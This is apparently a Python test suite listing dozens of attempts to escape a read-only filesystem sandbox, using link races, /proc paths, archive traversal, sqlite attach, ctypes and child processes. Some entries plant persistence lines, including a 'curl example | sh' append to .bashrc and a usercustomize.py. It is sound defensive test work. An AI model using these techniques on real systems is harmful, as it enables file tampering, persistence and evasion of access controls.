"""Changing, making and deleting files where that is not allowed."""

from __future__ import annotations

from containment.attempt import BEYOND, Admitted, attempts

NATIVE = (Admitted("Native code, where `--block-native` does not stand"),)
FOREIGN = (Admitted("*Programs that are not Python*"),)

FILLED = (
    "import sqlite3; d = sqlite3.connect(':memory:'); %s; d.execute('pragma temp_store = 1'); d.execute('pragma cache_size = 10'); "
    "d.execute('create temp table t (x)'); d.executemany('insert into t values (?)', [('x' * 2000,)] * 5000)"
)
"""More than its cache holds, in a temporary table."""

CALLED = (
    "import _imp; from importlib.util import find_spec; m = _imp.create_dynamic(find_spec('_sqlite3')); m.__name__ = %s; _imp.exec_dynamic(m); "
    "d = m.connect(':memory:'); d.execute('attach ? as a', (OUTSIDE + '/new',)); d.execute('create table a.b (c)'); d.commit()"
)
"""A module that has another name when it gets its types."""
MADE = "import _imp; from importlib.util import find_spec; _imp.create_dynamic(find_spec('_sqlite3'))"

write = attempts("changed", "--fs-readonly")
inside = attempts("changed", "--fs-readonly", "--allow-write=.", spared=("inside",))
together = attempts("changed", "--fs-readonly", "--no-subprocess")

OPENED = [
    write("open", "open(CANARY, 'w').close()"),
    write("open, to append", "open(CANARY, 'ab').write(b'x')"),
    write("open, to read and write", "open(CANARY, 'r+').write('x')"),
    write("open, what is new", "open(OUTSIDE + '/new', 'x').close()"),
    write("open, by keyword", "open(mode='w', file=CANARY).close()"),
    write("open, a mode in disguise", "class Mode(str):\n    def __contains__(self, other): return False\nopen(CANARY, Mode('w')).close()"),
    write("open, bytes", "open(os.fsencode(CANARY), 'w').close()"),
    write("open, an object's path", "import pathlib; pathlib.Path(CANARY).write_text('x')"),
    write("open, an opener", "open('x', opener=lambda name, flags: os.open(CANARY, os.O_WRONLY | os.O_TRUNC))"),
    write("_io.open", "import _io; _io.open(CANARY, 'w').close()"),
    write("io.FileIO", "import io; io.FileIO(CANARY, 'w').close()"),
    write("os.open", "os.write(os.open(CANARY, os.O_WRONLY), b'x')"),
    write("os.open, to read and cut", "os.open(CANARY, os.O_RDONLY | os.O_TRUNC)"),
    write("os.open, to read and make", "os.open(OUTSIDE + '/new', os.O_RDONLY | os.O_CREAT)"),
    write("os.open, by a directory's descriptor", "os.open('new', os.O_CREAT | os.O_WRONLY, dir_fd=os.open(OUTSIDE, os.O_RDONLY))"),
    write("os.open, what has no name", "os.link('/proc/self/fd/%d' % os.open(OUTSIDE, os.O_TMPFILE | os.O_WRONLY), OUTSIDE + '/new', src_dir_fd=0)", cpython=True),
    write("a file opened to be read, again", "open('/proc/self/fd/%d' % os.open(CANARY, os.O_RDONLY), 'w').close()"),
    write("a file opened to be read, by /dev/fd", "open('/dev/fd/%d' % os.open(CANARY, os.O_RDONLY), 'w').close()"),
    write("a path through the root", "open('/proc/self/root' + CANARY, 'w').close()"),
    write("a path through the parent's root", "open('/proc/%d/root%s' % (os.getppid(), CANARY), 'w').close()"),
    write("a relative path", "open('../outside/new', 'w').close()"),
    write("another working directory", "os.chdir(OUTSIDE); open('new', 'w').close()"),
    write("a planted link", "open(TO_CANARY, 'w').close()"),
    write("a link of one's own", "import tempfile; link = tempfile.mkdtemp() + '/l'; os.symlink(CANARY, link); open(link, 'w').close()"),
    write("a hard link of one's own", "import tempfile; link = tempfile.mkdtemp() + '/l'; os.link(CANARY, link); open(link, 'w').close()"),
    write("a file that was open before", "os.pwrite(FD, b'x', 0); CANARY", inherits="canary"),
    write("a file that was open before, in memory", "import mmap; mmap.mmap(FD, 1)[:] = b'x'; CANARY", inherits="canary"),
    write("a file that was open before, cut", "os.ftruncate(FD, 0); CANARY", inherits="canary"),
    write("shared memory", "from multiprocessing import resource_tracker as t, shared_memory as s; t.register = print; m = s.SharedMemory(SHARED, True, 9); os._exit(0)", since=(3, 8), layers=BEYOND),
    write("shared memory, by the C module", "import _posixshmem; _posixshmem.shm_open('/' + SHARED, os.O_CREAT | os.O_RDWR, 0o600)", since=(3, 8)),
    write("a compiled module", "sys.path.insert(0, OUTSIDE); import spilling; MODULE"),
    write("compileall", "import compileall; compileall.compile_dir(OUTSIDE, quiet=2); MODULE"),
    write("a path that changes", """
        class Path:
            asked = 0
            def __fspath__(self):
                self.asked += 1
                return CANARY if self.asked > COUNT else '/dev/null'
        for COUNT in range(6):
            try: open(Path(), 'w').close()
            except OSError: pass"""),
    write("a string that lies", """
        class Liar(str):
            def startswith(self, *_): return True
            def __eq__(self, other): return other == '/dev/null'
            def __str__(self): return '/dev/null'
            def encode(self, *_): return b'/dev/null'
            __hash__ = str.__hash__
        open(Liar(CANARY), 'w').close()""", cpython=True),
]  # fmt: skip

TREE = [
    write("mkdir", "os.mkdir(OUTSIDE + '/new')"),
    write("mkdir, by a directory's descriptor", "os.mkdir('new', dir_fd=os.open(OUTSIDE, os.O_RDONLY))"),
    write("makedirs", "os.makedirs(HOME + '/.config/autostart')"),
    write("rmdir", "os.rmdir(EMPTY)"),
    write("remove", "os.remove(CANARY)"),
    write("unlink, by a directory's descriptor", "os.unlink('canary', dir_fd=os.open(OUTSIDE, os.O_RDONLY)); CANARY"),
    write("rename", "os.rename(CANARY, OUTSIDE + '/new')"),
    write("replace", "import tempfile; file = tempfile.NamedTemporaryFile(delete=False); os.replace(file.name, CANARY)"),
    write("rename, by directories' descriptors", "fd = os.open(OUTSIDE, os.O_RDONLY); os.rename('canary', 'new', src_dir_fd=fd, dst_dir_fd=fd); CANARY"),
    write("link", "os.link(CANARY, OUTSIDE + '/new')"),
    write("symlink", "os.symlink('/', OUTSIDE + '/new')"),
    write("symlink, by a directory's descriptor", "os.symlink('/', 'new', dir_fd=os.open(OUTSIDE, os.O_RDONLY))"),
    write("truncate", "os.truncate(CANARY, 0)"),
    write("mkfifo", "os.mkfifo(OUTSIDE + '/new')"),
    write("mkfifo, by a directory's descriptor", "os.mkfifo('new', dir_fd=os.open(OUTSIDE, os.O_RDONLY))"),
    write("mkfifo, by the C module", "import posix; posix.mkfifo(OUTSIDE + '/new')"),
    write("mknod", "os.mknod(OUTSIDE + '/new')"),
    write("a local server", "import socket; socket.socket(1).bind(OUTSIDE + '/new')"),
    write("a local server, asyncio", "import asyncio; asyncio.new_event_loop().run_until_complete(asyncio.start_unix_server(print, OUTSIDE + '/new'))"),
    write("a local server, datagrams", "import socket; socket.socket(1, 2).bind((OUTSIDE + '/new').encode())"),
    write("a local server, Listener", "from multiprocessing.connection import Listener; Listener(OUTSIDE + '/new'); os._exit(0)"),
    write("copy", "import shutil; shutil.copy('/dev/null', OUTSIDE + '/new')"),
    write("move", "import shutil; shutil.move(CANARY, HOME + '/new')"),
    write("rmtree", "import shutil; CANARY; shutil.rmtree(OUTSIDE)"),
    write("copytree", "import shutil; CANARY; shutil.copytree(OUTSIDE, HOME + '/new')"),
    write("a temporary file", "import tempfile; tempfile.NamedTemporaryFile(dir=OUTSIDE, delete=False)"),
]  # fmt: skip

METADATA = [
    write("chmod", "os.chmod(CANARY, 0o777)"),
    write("fchmod", "os.fchmod(os.open(CANARY, os.O_RDONLY), 0o777)"),
    write("chmod, by a directory's descriptor", "os.chmod('canary', 0o777, dir_fd=os.open(OUTSIDE, os.O_RDONLY)); CANARY"),
    write("chown", "os.chown(CANARY, 12345, 12345)", root=True),
    write("lchown", "os.lchown(CANARY, 12345, 12345)", root=True),
    write("utime", "os.utime(CANARY, (1, 1))"),
    write("utime, by descriptor", "os.utime(os.open(CANARY, os.O_RDONLY), (1, 1))"),
    write("setxattr", "os.setxattr(CANARY, 'user.a', b'b')", probe="import tempfile; file = tempfile.NamedTemporaryFile(); os.setxattr(file.name, 'user.a', b'b')"),
    write("removexattr", "os.removexattr(ATTRIBUTE, 'user.secret')", probe="import tempfile; file = tempfile.NamedTemporaryFile(); os.setxattr(file.name, 'user.a', b'b')"),
    write("Path.touch", "import pathlib; pathlib.Path(CANARY).touch()"),
]  # fmt: skip

LIBRARY = [
    write("sqlite3", "import sqlite3; d = sqlite3.connect(OUTSIDE + '/new'); d.execute('create table a (b)'); d.commit()"),
    write("sqlite3, what is there", "import sqlite3; d = sqlite3.connect(DATABASE); d.execute('delete from secrets'); d.commit()"),
    write("sqlite3, by URI", "import sqlite3; d = sqlite3.connect('file:%s/new?mode=rwc' % OUTSIDE, uri=True); d.execute('create table a (b)'); d.commit()"),
    write("sqlite3, attached", "import sqlite3; d = sqlite3.connect(':memory:'); d.execute('attach ? as a', (OUTSIDE + '/new',)); d.execute('create table a.b (c)'); d.commit()"),
    write("sqlite3, vacuumed", "import sqlite3; d = sqlite3.connect(':memory:'); d.execute('create table a (b)'); d.commit(); d.execute('vacuum into ?', (OUTSIDE + '/new',))"),
    write("sqlite3, called otherwise", CALLED % "'other'", probe=MADE),
    write("sqlite3, called by what is no word", CALLED % "type('Word', (str,), {})('_sqlite3')", probe=MADE),
    write("sqlite3, backed up", "import sqlite3; d = sqlite3.connect(':memory:'); d.execute('create table a (b)'); d.backup(sqlite3.connect(OUTSIDE + '/new'))", since=(3, 7)),
    write("sqlite3, a log for reading", "import sqlite3; d = sqlite3.connect('file:%s?mode=ro' % LOGGED, uri=True); d.execute('select * from secrets').fetchall(); os._exit(0)"),
    write("sqlite3, a log for reading, attached", "import sqlite3; d = sqlite3.connect('file::memory:', uri=True); d.execute(\"attach 'file:%s?mode=ro' as a\" % LOGGED); d.execute('select * from a.secrets').fetchall(); os._exit(0)"),
    write("sqlite3, a lock for reading", "import sqlite3; d = sqlite3.connect('file:%s?mode=ro&%%76fs=unix-dotfile' % DATABASE, uri=True); d.execute('begin'); d.execute('select * from secrets').fetchall(); os._exit(0)"),
    write("sqlite3, a temporary place", "import sqlite3; d = sqlite3.connect(''); d.execute(\"attach '%s/new' as a\" % OUTSIDE); d.execute('create table a.b (c)'); d.commit()"),
    write("sqlite3, its temporary files", FILLED % "d.execute(\"pragma temp_store_directory = '%s'\" % OUTSIDE)"),
    write("dbm", "import dbm; dbm.open(OUTSIDE + '/new', 'c')['a'] = 'b'"),
    write("dbm, by libdb", "import _dbm; _dbm.open(OUTSIDE + '/new', 'c').close()", probe="import _dbm"),
    write("dbm, by gdbm", "import _gdbm; _gdbm.open(OUTSIDE + '/new', 'c').close()", probe="import _gdbm"),
    write("shelve", "import shelve; shelve.open(OUTSIDE + '/new')['a'] = 1"),
    write("readline's history", "import readline; readline.add_history('x'); readline.write_history_file(OUTSIDE + '/new')", cpython=True),
    write("readline's history, appended", "import readline; readline.add_history('x'); readline.append_history_file(1, CANARY)", cpython=True),
    write("a log", "import logging; logging.basicConfig(filename=OUTSIDE + '/new'); logging.error('x')"),
    write("a log that rotates", "import logging.handlers as h; h.RotatingFileHandler(CANARY, maxBytes=1, backupCount=1).doRollover()"),
    write("keys of TLS", "import ssl; ssl.SSLContext(ssl.PROTOCOL_TLS).keylog_filename = OUTSIDE + '/new'", since=(3, 8), cpython=True),
    write("keys of TLS, by the environment", "os.environ['SSLKEYLOGFILE'] = OUTSIDE + '/new'; import ssl; ssl.create_default_context()", since=(3, 8), cpython=True),
    write("faulthandler", "import faulthandler; faulthandler.dump_traceback(open(CANARY, 'a'))"),
    write("a profile", "import cProfile; cProfile.run('1', OUTSIDE + '/new')"),
    write("an archive's member", """
        import io, tarfile
        file, member = io.BytesIO(), tarfile.TarInfo('../outside/new')
        with tarfile.open(fileobj=file, mode='w') as archive: archive.addfile(member)
        tarfile.open(fileobj=io.BytesIO(file.getvalue())).extractall('.', **({'filter': 'fully_trusted'} if hasattr(tarfile, 'data_filter') else {}))"""),
    write("an archive", "import shutil; CANARY; shutil.make_archive(HOME + '/new', 'zip', OUTSIDE)"),
    write("py_compile", "import py_compile; py_compile.compile(MODULE, cfile=OUTSIDE + '/new')"),
    write("a mailbox", "import mailbox; mailbox.mbox(OUTSIDE + '/new').add('x')"),
    write("compressed", "import gzip; gzip.open(OUTSIDE + '/new', 'w').close()"),
    write("lines for later shells", "open(HOME + '/.bashrc', 'a').write('curl example | sh')"),
    write("a module for later Pythons", "import site; d = site.getusersitepackages(); os.makedirs(d); open(d + '/usercustomize.py', 'w').close(); HOME"),
    write("a line for later Pythons", "import site; d = site.getusersitepackages(); os.makedirs(d); open(d + '/late.pth', 'w').write('import os'); HOME"),
    write("core", "import resource; resource.setrlimit(resource.RLIMIT_CORE, (1 << 20,) * 2); os.abort()",
          probe="assert open('/proc/sys/kernel/core_pattern').read() == 'core\\n'"),
]  # fmt: skip

ALLOWED = [
    inside("beside what may be written", "open('../outside/new', 'w').close()"),
    inside("out of what may be written", "open(os.getcwd() + '/../outside/new', 'w').close()"),
    inside("a planted link, from what may be written", "open(TO_CANARY, 'w').close()"),
    inside("a planted link to a directory", "open(TO_OUTSIDE + '/new', 'w').close()"),
    inside("a link made in what may be written", "os.symlink(CANARY, 'link'); open('link', 'w').close()"),
    inside("a link to a directory", "os.symlink(OUTSIDE, 'link'); os.mkdir('link/new')"),
    inside("a hard link", "os.link(CANARY, 'link'); open('link', 'w').close()"),
    inside("moved in, changed, moved back", "os.rename(CANARY, 'file'); open('file', 'a').write('x'); os.rename('file', CANARY)"),
    inside("a directory moved out", "os.mkdir('new'); os.rename('new', OUTSIDE + '/new')"),
    inside("chmod by a link", "os.symlink(CANARY, 'link'); os.chmod('link', 0o777)"),
    inside("an archive's link", """
        import io, tarfile
        file, link, member = io.BytesIO(), tarfile.TarInfo('link'), tarfile.TarInfo('link/new')
        link.type, link.linkname = tarfile.SYMTYPE, OUTSIDE
        with tarfile.open(fileobj=file, mode='w') as archive: archive.addfile(link); archive.addfile(member)
        tarfile.open(fileobj=io.BytesIO(file.getvalue())).extractall('.', **({'filter': 'fully_trusted'} if hasattr(tarfile, 'data_filter') else {}))"""),
    inside("a link that is turned meanwhile", """
        import threading, time
        open('good', 'w').close()
        def turn():
            while True:
                for target in ('good', CANARY):
                    try: os.symlink(target, 'new'); os.rename('new', 'link')
                    except OSError: pass
        threading.Thread(target=turn, daemon=True).start()
        until = time.time() + 1.5
        while time.time() < until:
            try: open('link', 'w').close()
            except OSError: continue
            if not os.path.getsize(CANARY): break""", admitted=(Admitted("a thread that swaps a link between the question and the call"),)),
]  # fmt: skip

CHILDREN = [
    write("a forked child", "if os.fork(): os.wait()\nelse: open(CANARY, 'w').close()"),
    write("a Python child", "import subprocess; subprocess.call([PY, '-c', 'open(%r, \"w\")' % CANARY])"),
    write("an isolated Python child", "import subprocess; subprocess.call([PY, '-IS', '-c', 'open(%r, \"w\")' % CANARY], env={})"),
    write("a Python child's own options", "import subprocess; subprocess.call([PY, '-m', 'cProfile', '-o', OUTSIDE + '/new', '-m', 'this'])", since=(3, 7)),
    write("a Python child that compiles", "import subprocess; subprocess.call([PY, '-m', 'compileall', '-q', OUTSIDE]); MODULE"),
    write("a virtual environment", "import subprocess; subprocess.call([PY, '-m', 'venv', '--without-pip', OUTSIDE + '/new'])"),
    write("a child's output", "import subprocess; subprocess.call(['true'], stdout=open(CANARY, 'w'))"),
    write("posix_spawn's file actions", "os.waitpid(os.posix_spawn('/bin/true', ['true'], {}, file_actions=[(os.POSIX_SPAWN_OPEN, 5, CANARY, os.O_TRUNC | os.O_WRONLY, 0)]), 0)", since=(3, 8), cpython=True),
    write("touch", "import subprocess; subprocess.call(['touch', OUTSIDE + '/new'])", admitted=FOREIGN),
    write("a shell", "os.system('echo >' + CANARY)", layers=BEYOND),
    write("sed", "import subprocess; subprocess.call(['sed', '-i', 's/a/b/', CANARY])", layers=BEYOND),
    write("a C program", "import subprocess; subprocess.call([VISIT, '-', CANARY])", layers=BEYOND),
    write("ctypes", "import ctypes; ctypes.CDLL(None).unlink(os.fsencode(CANARY))", admitted=NATIVE),
    write("ctypes, with libc's names for it", "import ctypes; ctypes.CDLL(None).fopen(os.fsencode(CANARY), b'w')", layers=BEYOND),
    together("touch, where no process may be started", "import subprocess; subprocess.call(['touch', OUTSIDE + '/new'])"),
    together("a shell, where no process may be started", "os.system('echo >' + CANARY)"),
    together("perl, where no process may be started", "import subprocess; subprocess.call(['perl', '-e', 'unlink shift', CANARY])"),
]  # fmt: skip

ATTEMPTS = [*OPENED, *TREE, *METADATA, *LIBRARY, *ALLOWED, *CHILDREN]
